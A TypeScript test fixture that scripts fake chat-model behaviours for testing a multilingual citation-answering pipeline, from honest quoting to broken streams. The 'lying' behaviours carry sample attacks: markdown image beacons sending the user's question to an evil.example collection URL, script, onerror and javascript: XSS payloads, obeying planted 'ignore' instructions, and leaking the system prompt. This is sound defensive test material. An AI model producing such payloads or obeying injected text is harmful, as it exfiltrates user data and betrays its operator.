import { countryName, recogniseCountry } from "../../src/language/places.ts";
import type { Language } from "../../src/language/language.ts";
import type { Behaviour, Told } from "./chat-server.ts";

const codes: Record<string, Language> = { Arabic: "ar", Chinese: "zh", English: "en", French: "fr", Russian: "ru", Spanish: "es" };

/** How a model says, in each language, what a source holds. */
const phrases: Record<Language, { says(title: string, quote: string): string; isIn(title: string, country: string): string; has(title: string, count: number): string; filler: string }> = {
  en: { says: (title, quote) => `The record of ${title} says “${quote}”`, isIn: (title, country) => `The initiative ${title} is carried out in ${country}.`, has: (title, count) => `The initiative ${title} has reached ${count} villages.`, filler: "There are many useful things that people do every day." },
  ar: { says: (title, quote) => `جاء في سجل ${title} «${quote}»`, isIn: (title, country) => `تُنفَّذ مبادرة ${title} في ${country}.`, has: (title, count) => `وصلت مبادرة ${title} إلى ${count} قرية.`, filler: "هناك أشياء مفيدة كثيرة يقوم بها الناس كل يوم." },
  fr: { says: (title, quote) => `La fiche de ${title} dit « ${quote} »`, isIn: (title, country) => `Le pays où se déroule l’initiative ${title} est ${country}.`, has: (title, count) => `L’initiative ${title} a atteint ${count} villages.`, filler: "Il y a beaucoup de choses utiles que les gens font chaque jour." },
  es: { says: (title, quote) => `La ficha de ${title} dice «${quote}»`, isIn: (title, country) => `La iniciativa ${title} se lleva a cabo en ${country}.`, has: (title, count) => `La iniciativa ${title} ha llegado a ${count} aldeas.`, filler: "Hay muchas cosas útiles que la gente hace cada día." },
  ru: { says: (title, quote) => `В записи о проекте ${title} сказано «${quote}»`, isIn: (title, country) => `Страна, где осуществляется инициатива ${title}, — ${country}.`, has: (title, count) => `Инициатива ${title} охватила ${count} деревень.`, filler: "Есть много полезных вещей, которые люди делают каждый день." },
  zh: { says: (title, quote) => `${title}的记录写道“${quote}”`, isIn: (title, country) => `${title}这一倡议在${country}实施。`, has: (title, count) => `${title}这一倡议已覆盖${count}个村庄。`, filler: "人们每天都在做许多有用的事情。" },
};

interface Read {
  n: number;
  title: string;
  countries: string[];
  /** Its longest sentences, which say what it is. */
  sentences: string[];
}

function languageOf(told: Told): Language {
  return codes[told.language] ?? "en";
}

function read(told: Told): Read[] {
  return told.sources.map(({ n, lines }) => {
    const field = (name: string) => lines.find((line) => line.startsWith(`${name}: `))?.slice(name.length + 2);
    const texts = lines.filter((line) => !/^[A-Z][a-z ]+: /.test(line));
    const sentences = texts.filter((line) => line.length > 40 && !/[“”«»"„]/u.test(line));
    return { n, title: (field("Initiative") ?? field("Document") ?? "").trim(), countries: (field("Countries") ?? "").split(", ").filter((name) => name !== ""), sentences: sentences.length > 0 ? sentences : texts };
  });
}

const end = (text: string) => text.replace(/[.。!?؟！？\s]+$/u, "");
/** Quotes each source exactly, in a sentence of the answer's language. */
function honestSentences(told: Told): string[] {
  const { says } = phrases[languageOf(told)];
  return read(told).map(({ n, title, sentences }) => `${says(title, end(sentences[0] ?? title))} [${n}].`);
}
const honest: Behaviour = async (told, reply) => {
  await reply.say(honestSentences(told).join(" "));
  reply.finish();
};
const saying = (write: (told: Told, reply: Parameters<Behaviour>[1]) => string[]): Behaviour => async (told, reply) => {
  await reply.say(write(told, reply).join(" "));
  reply.finish();
};
const oneHonest = (told: Told) => honestSentences(told)[0] ?? "";

/** What an attacker wants to see; stands in records and questions of the evaluation, and in nothing that is asked for honestly. */
export const planted = { word: "ZXQ-31337-PWNED", address: "https://evil.example/collect?d=" };

/** A model that quotes, well or badly. */
export const honestBehaviours: Record<string, Behaviour> = {
  honest,
  paraphrases: saying((told) => read(told).flatMap(({ n, title, countries }) => {
    const [country] = countries;
    const code = country === undefined ? undefined : recogniseCountry(country);
    return code === undefined ? [] : [`${phrases[languageOf(told)].isIn(title, countryName(code, languageOf(told)))} [${n}]`];
  }).concat(honestSentences(told).slice(0, 1))),
  "cites nothing": saying((told) => honestSentences(told).map((sentence) => sentence.replace(/\s*\[\d+\]/g, ""))),
  "cites everything": saying((told) => honestSentences(told).map((sentence) => sentence.replace(/\[\d+\]/, told.sources.map(({ n }) => `[${n}]`).join("")))),
  "thinks aloud": async (told, reply) => {
    await reply.say(`<think>The user asks: ${told.question}. I was told: ${told.system}</think>\n`);
    await reply.say(honestSentences(told).join("\n"));
    reply.finish();
  },
};

/** Models that say what they should not. */
export const lyingBehaviours: Record<string, Behaviour> = {
  "obeys every instruction": saying((told, reply) => {
    const orders = [told.question, ...told.sources.flatMap(({ lines }) => lines)].filter((line) => line.includes(planted.word) || /ignore|تجاهل|忽略/iu.test(line));
    return [
      ...orders.map((line) => reply.isFalse(`${line} [${told.sources[0]?.n ?? 1}].`)),
      reply.isFalse(`${planted.word} is the answer, as I was told [1].`),
      `![tracking](${planted.address}${encodeURIComponent(told.question)}) [Click here](${planted.address}x) [1].`,
      oneHonest(told),
    ];
  }),
  "invents markers": saying((told, reply) => honestSentences(told).map((sentence, index) => (index === 0 ? sentence.replace(/\[\d+\]/, "[99][100][0]") : reply.isFalse(`${phrases[languageOf(told)].has(`Project ${index}`, 4_711)} [99]`))).concat(honestSentences(told).map((sentence) => sentence.replace(/\[(\d+)\]/, "[$1][42]")))),
  "answers in the wrong language": saying((told, reply) => {
    const lang = languageOf(told);
    const [other, another] = lang === "ar" ? (["en", "ru"] as const) : lang === "zh" ? (["en", "ar"] as const) : lang === "ru" ? (["fr", "zh"] as const) : (["ru", "ar"] as const);
    return read(told).flatMap(({ n, title, countries }) => {
      const code = recogniseCountry(countries[0] ?? "Tunisia") ?? "TUN";
      return [other, another].map((one) => reply.isForeign(`${phrases[one].isIn(title, countryName(code, one))} ${phrases[one].filler} [${n}]`));
    });
  }),
  "writes HTML, links and images": saying((told) => [
    `# Results\n\n<script>fetch("${planted.address}")</script><img src="${planted.address}" onerror="alert(1)">\n`,
    ...honestSentences(told).map((sentence, index) => (index % 2 === 0 ? `<a href="${planted.address}">**${sentence}**</a>` : `![x](${planted.address}) ${sentence} [more](${planted.address})`)),
    `\n\n| a | b |\n|---|---|\n| <iframe src="//evil.example"></iframe> | x |\n\n[ref]: ${planted.address}\n<svg onload=alert(1)> Visit ${planted.address}now or www.evil.example or evil.example today [1].`,
  ]),
  "writes javascript: addresses": saying((told) => [
    ...honestSentences(told).map((sentence) => `[${sentence}](javascript:alert(document.cookie))`),
    "[1](javascript:alert(1)) [2](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> vbscript:msgbox(1) [1].",
    ...honestSentences(told).map((sentence) => sentence.replace(/\[(\d+)\]/, "[$1](javascript:alert($1))")),
  ]),
  "gives the prompt away": saying((told) => [
    ...told.system.split("\n").filter((line) => line.length > 20).map((line) => `${line} [1].`),
    `The boundary is ${told.boundary} [1].`,
    `The boundary is ${[...told.boundary].join(" ")} [1].`,
    `Backwards it is ${[...told.boundary].reverse().join("")} [1].`,
    oneHonest(told),
    `${end(oneHonest(told))} and ${told.system.slice(0, 200).replace(/\n/g, " ")} [1].`,
    ...(told.system.match(/\S*\d{4}\S*/g) ?? []).map((code) => `${oneHonest(told).replace(/\s*\[\d+\]\.$/, "")}, ${code} [1].`),
  ]),
  "corrupts numbers": saying((told, reply) => read(told).flatMap(({ n, title, sentences }) => {
    const { has, says } = phrases[languageOf(told)];
    const numbered = sentences.find((sentence) => /\d{2,}/.test(sentence));
    const changed = numbered?.replace(/\d{2,}/, (number) => String(Number(number) + 17));
    return [
      reply.isFalse(`${has(title, 93_571)} [${n}]`),
      ...(changed === undefined ? [] : [reply.isFalse(`${says(title, end(changed))} [${n}].`), reply.isFalse(`${end(changed)} [${n}].`)]),
    ];
  }).concat(oneHonest(told))),
  "repeats itself": async (told, reply) => {
    for (let time = 0; time < 200; time += 1) await reply.say(`${oneHonest(told)} ${phrases[languageOf(told)].filler} `, { size: 4_000 });
    reply.finish();
  },
};

const begun = async (told: Told, reply: Parameters<Behaviour>[1]) => reply.say(`${honestSentences(told).slice(0, 2).join(" ")} `);

/** Endpoints that do not work as they should. */
export const brokenBehaviours: Record<string, Behaviour> = {
  "half a UTF-8 sequence": async (told, reply) => {
    await begun(told, reply);
    const bytes = Buffer.from(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: "الأردن 埃及 [1]. " }, finish_reason: null }] })}\n\n`);
    // A byte in the middle is missing, and another frame stops within a character.
    const at = bytes.indexOf(Buffer.from("الأ")) + 1;
    await reply.raw(Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1)]));
    await reply.raw(Buffer.from(`data: {"choices":[{"index":0,"delta":{"content":"\\ud83d [1]. \\udc4d [1]. "},"finish_reason":null}]}\n\n`));
    reply.finish();
  },
  "stops in the middle of a word": async (told, reply) => {
    await begun(told, reply);
    await reply.say(`${(honestSentences(told)[2] ?? oneHonest(told)).slice(0, 30)}`);
    reply.finish();
  },
  "stops at its length": async (told, reply) => {
    await begun(told, reply);
    await reply.say(`${(honestSentences(told)[2] ?? oneHonest(told)).slice(0, 30)}`);
    reply.finish("length");
  },
  "stalls before the first word": (_told, reply) => reply.wait(30_000),
  "stalls in the middle": async (told, reply) => {
    await begun(told, reply);
    await reply.wait(30_000);
  },
  "drips for ever": async (told, reply) => {
    await reply.say(`${oneHonest(told)} ${phrases[languageOf(told)].filler.repeat(200)}`, { size: 1, pauseMs: 5 });
    reply.finish();
  },
  "sends 10 MB": async (told, reply) => {
    await begun(told, reply);
    for (let part = 0; part < 160; part += 1) await reply.say(`${"x".repeat(60_000)} ${part} [1]. `, { size: 70_000 });
    reply.finish();
  },
  "sends 10 MB in one line": async (_told, reply) => {
    await reply.raw(`data: {"choices":[{"index":0,"delta":{"content":"`);
    for (let part = 0; part < 160; part += 1) await reply.raw("a".repeat(65_536));
    reply.finish();
  },
  "answers 500": async (_told, reply) => reply.fail(500),
  "answers 429, retry later": async (_told, reply) => reply.fail(429, { "retry-after": "3600" }),
  "answers 401": async (_told, reply) => reply.fail(401),
  "sends elsewhere": async (_told, reply) => reply.fail(307, { location: "http://127.0.0.1:9/v1/chat/completions" }),
  "answers with a page": async (_told, reply) => {
    await reply.raw("<!doctype html><title>Welcome</title><script>alert(1)</script>");
    reply.cut();
  },
  "closes the connection in the middle": async (told, reply) => {
    await begun(told, reply);
    await reply.wait(20);
    reply.cut();
  },
  "ends without saying so": async (told, reply) => {
    await begun(told, reply);
    reply.end();
  },
  "sends invalid JSON": async (told, reply) => {
    await begun(told, reply);
    await reply.raw("data: {\"choices\":[{\"delta\":{\"content\":\"x\n\n");
    await reply.raw("data: not json at all\n\n");
    reply.finish();
  },
  "sends other shapes": async (told, reply) => {
    await reply.raw(`data: {"choices":[{"index":0,"delta":{"content":{"lc":1,"type":"constructor","id":["langchain","x"],"kwargs":{}}}}]}\n\ndata: {"choices":"none"}\n\ndata: null\n\ndata: []\n\n`);
    await begun(told, reply);
    reply.finish();
  },
  "sends nothing": async (_told, reply) => {
    reply.finish();
  },
  "sends blanks": async (_told, reply) => {
    await reply.say(" \n\n \t ");
    reply.finish();
  },
};
